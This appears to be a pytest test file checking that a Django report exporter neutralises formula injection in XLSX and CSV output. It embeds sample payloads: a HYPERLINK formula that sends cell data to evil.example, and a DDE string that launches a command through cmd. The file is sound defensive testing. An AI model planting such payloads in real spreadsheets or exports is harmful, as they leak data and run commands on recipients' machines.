"""Names from imported spreadsheets never run as formulas in the files the office opens in Excel."""

import io

import openpyxl
import pytest
from django.urls import reverse

from reports import exports
from reports.exports.tables import COUNT, Column, Table
from tests.factories import UnitFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'


def test_xlsx_writes_a_label_starting_with_equals_as_text(minhang_report):
    minhang_report["by_category"][0]["label"] = EVIL
    wb = openpyxl.load_workbook(io.BytesIO(exports.render(minhang_report, "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)
    sheet = wb.worksheets[1]  # the categories
    assert sheet["B2"].value == 37 and sheet["B2"].data_type == "n"  # numbers stay numbers


def test_xlsx_writes_a_header_starting_with_equals_as_text():
    table = Table(name="t", title="t", columns=[Column("=1+1"), Column("n", COUNT)], rows=[("a", 1)])
    header = openpyxl.load_workbook(io.BytesIO(exports.render_tables("t", [table], "xlsx"))).active["A1"]
    assert (header.value, header.data_type) == ("=1+1", "s")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_puts_a_quote_before_text_a_spreadsheet_would_run(minhang_report, start):
    minhang_report["by_category"][0]["label"] = start + "cmd"
    rows = exports.render(minhang_report, "csv", table="categories").decode("utf-8-sig").split("\r\n")
    assert rows[1].lstrip('"').startswith("'" + start + "cmd")
    assert rows[1].endswith(",37,17%")  # the figures are untouched


def test_csv_keeps_negative_changes_as_numbers(minhang_report):
    data = exports.render(minhang_report, "csv", table="summary").decode("utf-8-sig")
    assert ",-1" in data and ",'-" not in data


def test_units_csv_download_neutralises_a_unit_named_like_a_formula(client, office, district):
    UnitFactory(district=district, name="=1+cmd|' /C calc'!A0")
    client.force_login(office)
    response = client.get(
        reverse("reports:units_export", args=["csv"]), {"district": "minhang", "year": 2026, "body": "cppcc"}
    )
    assert response.status_code == 200
    assert "\r\n'=1+cmd" in response.content.decode("utf-8-sig")
